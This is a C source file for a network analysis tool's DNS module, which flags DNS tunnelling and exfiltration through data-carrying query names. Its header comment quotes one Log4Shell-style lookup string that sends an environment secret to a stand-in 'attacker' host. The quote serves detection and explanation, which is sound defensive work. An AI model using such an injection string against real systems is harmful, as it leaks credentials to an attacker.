/*
 * beh_dns.c - `dns`: name lookups the host made (queries, the names most
 * asked), from the first query on.
 *
 * `tunnel`: DNS tunnelling (iodine, dnscat2, DNS C2 in general) - data
 * carried in query names.  Rule: at least 10 data-like queries (long or
 * encoded labels, or long labels asking for TXT/NULL; proto_dns.c) under
 * one domain, or at least 20 to one server making up at least half of
 * what the host asked it.  Ordinary browsing asks a resolver for names
 * people chose; a few CDN names with hashes in them stay well below half.
 *
 * `exfiltration` (malicious): data-like names sent straight to a server
 * that is not the host's resolver (RPF2_DNS_DIRECT: it is not the server
 * most of the host's queries for domain names go to) - the shape of a
 * secret leaked through a lookup the attacker's own server receives (a
 * Log4Shell ${jndi:dns://attacker/${env:SECRET}} lookup, DNS beacons
 * carrying host data).  Data-like here also covers one-label names that
 * look like data (asked for TXT/NULL/ANY, or >= 16 characters mixing
 * letters and digits), which no resolver can answer.  One such query is
 * enough: a host has no reason to send one.
 */
#include <stdio.h>

#include "analysis/report-int.h"

static const struct rp_rule rules[] = {
	{ "dns_tunnel.server_queries", 20, 1, 1e9, "data-like queries to one server (at least half of them) for `tunnel`" },
	{ "dns_tunnel.domain_queries", 10, 1, 1e9, "data-like queries under one domain for `tunnel`" },
};

static void dns_tunnel(const struct rp_ctx *x, struct rp_host *h, double ts, double te, uint64_t tn)
{
	const struct rp_col *c = x->col;
	char dom[120];
	uint64_t nd = rp_ev_join(c, x->self, EV_DNS_DOMAIN, 1, dom, sizeof dom);
	uint64_t tq = rp_ev_top_count(c, x->self, EV_DNS_DOMAIN);
	const struct rp_dns_peer *best = NULL;
	uint64_t bytes = 0;
	for (size_t i = 0; i < c->ndns; i++) {
		const struct rp_dns_peer *e = &c->dns[i];
		if (e->client != x->self)
			continue;
		bytes += e->data_bytes;
		if (e->data >= rp_param(x, &rules[0]) && e->data * 2 >= e->queries && (!best || e->data > best->data))
			best = e;
	}
	if (!(tq >= rp_param(x, &rules[1]) && nd) && !best)
		return;
	struct rp_beh *b = rp_beh_add(h, "tunnel", ts, te, tn);
	if (!b)
		return;
	char srv[64] = "";
	if (best && best->family)
		decode_addr_str(best->family, best->addr, srv, sizeof srv);
	rp_kv_str(b, "type", "dns");
	if (tq >= rp_param(x, &rules[1]) && nd)
		rp_kv_str(b, "domain", dom);
	if (srv[0])
		rp_kv_str(b, "server", srv);
	rp_kv_num(b, "queries", (double)(tq > (best ? best->data : 0) ? tq : best->data));
	rp_kv_num(b, "name_bytes", (double)bytes);
	if (tq >= rp_param(x, &rules[1]) && nd)
		rp_evidence(b, "%llu DNS queries with long encoded labels or data-carrying record types under %s%s%s; %llu bytes of names in the queries inspected",
			    (unsigned long long)tq, dom, srv[0] ? " to " : "", srv, (unsigned long long)bytes);
	else
		rp_evidence(b, "%u DNS queries with long encoded labels (%u of the %u sent to %s), e.g. %s; %llu bytes of names in the queries inspected",
			    best->data, best->data, best->queries, srv[0] ? srv : "one server", best->sample,
			    (unsigned long long)bytes);
}

static const char *qtype_name(uint16_t t)
{
	static const struct {
		uint16_t t;
		const char *s;
	} tok[] = { { 1, "A" }, { 5, "CNAME" }, { 10, "NULL" }, { 15, "MX" }, { 16, "TXT" }, { 28, "AAAA" }, { 255, "ANY" } };
	for (size_t i = 0; i < sizeof tok / sizeof *tok; i++)
		if (tok[i].t == t)
			return tok[i].s;
	return "other";
}

static void dns_exfil(const struct rp_ctx *x, struct rp_host *h)
{
	const struct rp_col *c = x->col;
	for (size_t i = 0; i < c->ndns; i++) {
		const struct rp_dns_peer *e = &c->dns[i];
		if (e->client != x->self || e->resolver || (!e->data && !e->baddata))
			continue;
		struct rp_beh *b = rp_beh_add(h, "exfiltration", e->t0, e->t1, 0);
		if (!b)
			return;
		char srv[64] = "?";
		if (e->family)
			decode_addr_str(e->family, e->addr, srv, sizeof srv);
		uint32_t n = e->data + e->baddata;
		rp_kv_str(b, "channel", "dns");
		rp_kv_str(b, "server", srv);
		rp_kv_num(b, "queries", n);
		rp_kv_str(b, "name", e->sample);
		rp_kv_num(b, "name_bytes", (double)e->data_bytes);
		rp_evidence(b, "%u DNS quer%s with data-like names (e.g. %s %s%s) sent straight to %s, which the host "
			    "does not use as its resolver", n, n == 1 ? "y" : "ies", qtype_name(e->sample_type),
			    e->sample, e->baddata ? ", one label: no domain" : "", srv);
	}
}

static int dns_run(const struct rp_ctx *x, struct rp_host *h)
{
	double s = -1, e = 0, ts = -1, te = 0;
	uint64_t n = 0, q = 0, tn = 0, direct = 0;
	for (size_t i = 0; i < x->nfl; i++) {
		const struct rp_flow *f = x->fl[i];
		if (!rp_outbound(x, f) || f->app != RP_APP_DNS)
			continue;
		if (s < 0)
			s = f->t0;
		e = f->t1 > e ? f->t1 : e;
		n++;
		q += f->count;
		direct += (f->facts2 & RPF2_DNS_DIRECT) != 0;
		if (f->facts & RPF_DNS_TUNNEL) {
			if (ts < 0)
				ts = f->t0;
			te = f->t1 > te ? f->t1 : te;
			tn++;
		}
	}
	if (!n)
		return 0;
	char names[200];
	uint64_t distinct = rp_ev_join(x->col, x->self, EV_DNS_QNAME, 4, names, sizeof names);
	struct rp_beh *b = rp_beh_add(h, "dns", s, e, n);
	if (b) {
		rp_kv_num(b, "queries", (double)q);
		rp_kv_num(b, "names", (double)distinct);
		if (direct)
			rp_kv_num(b, "direct_flows", (double)direct);
		rp_evidence(b, "%llu quer%s, %llu distinct name%s: %s", (unsigned long long)q, q == 1 ? "y" : "ies",
			    (unsigned long long)distinct, distinct == 1 ? "" : "s", names);
	}
	dns_tunnel(x, h, ts, te, tn);
	dns_exfil(x, h);
	return 0;
}

const struct analysis analysis_dns = { .name = "dns", .run = dns_run, .kinds = "dns,tunnel,exfiltration",
	.rules = rules, .nrules = sizeof rules / sizeof *rules };
